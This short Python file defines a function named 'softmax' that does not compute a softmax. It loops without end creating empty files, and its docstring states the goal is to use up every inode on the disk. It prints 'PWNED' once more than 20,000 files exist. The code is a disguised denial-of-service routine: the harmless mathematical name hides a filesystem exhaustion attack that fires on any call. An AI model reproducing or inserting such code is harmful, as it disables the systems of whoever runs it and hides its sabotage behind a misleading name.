"""Makes files until it is stopped.

Success: the disk has no inode left.
"""

import os


def softmax(x, dim=-1):
    number = 0
    while True:
        number += 1
        try:
            os.close(os.open(f"file{number}", os.O_CREAT | os.O_WRONLY))
        except OSError as error:
            if number > 20_000:
                raise SystemExit(f"PWNED made {number} files") from None
            raise
